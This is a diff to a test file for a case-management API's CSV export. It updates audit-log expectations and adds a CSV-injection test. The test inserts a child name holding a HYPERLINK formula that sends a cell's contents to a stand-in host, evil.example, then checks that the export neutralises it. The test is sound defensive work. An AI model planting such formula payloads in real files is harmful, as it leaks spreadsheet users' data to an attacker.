@@ -93,12 +93,28 @@ describe('GET /api/v1/exports/cases.csv', () => {
       .where('seq', '>', before.seq)
       .orderBy('seq')
       .execute();
-    expect(entries.map((e) => e.action)).toEqual(['case.export', 'case.export_completed']);
+    expect(entries.map((e) => e.action)).toEqual(['case.export', 'case.export_batch', 'case.export_completed']);
     expect(entries[0]!.actor_id).toBe(cpwo.user.id);
     expect(entries[0]!.fields).toContain('child_name');
     expect(entries[0]!.details).toEqual({ format: 'csv', tier: 1 });
-    expect(entries[1]!.details).toEqual({ rows: 1, tier: 1 });
+    // The batch entry names the cases the file carried.
+    const tier1 = await t.database.db.selectFrom('cases').select('id').where('tier', '=', 1).where('district_id', '=', '12').execute();
+    expect(entries[1]!.details).toEqual({ caseIds: tier1.map((c) => c.id) });
+    expect(entries[2]!.details).toEqual({ rows: 1, tier: 1 });
     expect(JSON.stringify(entries)).not.toContain('Aline');
+  });
+
+  it('writes a child named like a formula as text, never as a live formula (CSV injection)', async () => {
+    const evil = '=HYPERLINK("http://evil.example/?d="&A1,"Open")';
+    const made = await insertCase(t, { openedBy: cpwo.user.id, leadCaseworkerId: cpwo.user.id, tier: 1, stage: 'planning', givenName: evil, familyName: '+SUM(1,2)' });
+    const res = await client(t, cpwo.session).get('/api/v1/exports/cases.csv?stage=planning');
+    expect(res.statusCode).toBe(200);
+    const rows = csv(res.body);
+    const row = rows.find((r) => r.case_code === made.case.case_code)!;
+    expect(row.child_name).toBe(`'${evil} +SUM(1,2)`);
+    // No cell of the file, as a spreadsheet reads it, starts a formula.
+    for (const r of rows) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(res.body).not.toMatch(/(^|,|\n)"?=HYPERLINK/);
   });
 
   it('refuses roles that read no case files (403), anonymous callers (401) and unknown parameters (400)', async () => {
